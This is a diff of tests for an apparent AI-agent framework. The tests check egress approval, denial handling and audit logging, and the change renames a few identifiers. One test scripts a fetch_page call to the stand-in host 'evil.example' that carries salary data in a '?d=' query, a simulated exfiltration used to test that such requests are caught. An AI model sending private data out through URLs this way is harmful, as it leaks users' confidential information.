@@ -15,11 +15,11 @@ from aiohttp import web
 from handoff import events as ev
 from handoff.access.audit_entry import AuditEntry
 from specialists.crew import Crew
-from specialists.registry import CREWS, load_crew
+from specialists.registry import CREWS_FOLDER, load_crew
 from specialists.tools.web import web as web_toolkit
 from specialists.tools.web.fetch import FetchSettings
 from specialists.tools.web.search import SearchSettings
-from specialists.turns.egress import MOST_SHOWN
+from specialists.turns.egress import MAX_SHOWN_CHARACTERS
 from tests.own_tools import all_tools
 from tests.providers.rendering import Reply
 from tests.providers.wire import WireRequest
@@ -69,7 +69,7 @@ async def the_web() -> AsyncIterator[Web]:
     async with serving(handler) as site:
         search = SearchSettings(provider="brave", key="k", base_url=site.url("/engine"))
         tools = web_toolkit.tools(search, FetchSettings(allow_hosts=(site.host,), resolver=resolver))
-        crew = load_crew(CREWS / "general", {**all_tools(), **{tool.name: tool for tool in tools}})
+        crew = load_crew(CREWS_FOLDER / "general", {**all_tools(), **{tool.name: tool for tool in tools}})
         yield Web(site, crew, asked)
 
 
@@ -132,7 +132,7 @@ async def test_what_a_file_says_leaves_by_no_channel_that_nobody_approved(scene:
             seen = [await decide(scene, talk, "deny") for _ in range(5)]
             done = await talk.over()
     assert there.asked == ["pages.example/tides"], "as the requester wrote it, and nothing else"
-    assert done.latest.state == "completed"
+    assert done.latest_request.state == "completed"
     assert f"market {SECRET}" in seen[0]
     assert "could see" in seen[0]
     assert not cards(talk)
@@ -178,7 +178,7 @@ async def test_with_nothing_private_nobody_is_asked_and_the_audit_has_tools_and_
             done = await talk.over()
     entries = [AuditEntry.model_validate_json(line) async for line in scene.store.audit.read()]
     kept = [entry for entry in entries if entry.deed == "sent_out"]
-    assert done.latest.state == "completed"
+    assert done.latest_request.state == "completed"
     assert not await talk.of(ev.ApprovalAsked)
     search, page = there.asked[:2]
     assert search.startswith("127.0.0.1/engine/web/search?q=pay+of+analysts")
@@ -199,7 +199,7 @@ async def test_the_longest_request_that_is_asked_about_is_shown_whole(scene: Sce
     async with the_web() as there:
         start = there.url("evil.example", "/?d=")
         longest = start + "%20".join(["salary"] * 500)
-        longest = longest[: MOST_SHOWN - len("GET ")].rstrip("%0123456789")
+        longest = longest[: MAX_SHOWN_CHARACTERS - len("GET ")].rstrip("%0123456789")
         turns = [tool_calls_of(("fetch_page", {"url": longest}), ("fetch_page", {"url": f"{longest}{'x' * 10}"}))]
         async with job(scene, there, *turns):
             talk = await scene.ask("Say what others pay", files=[PAY])
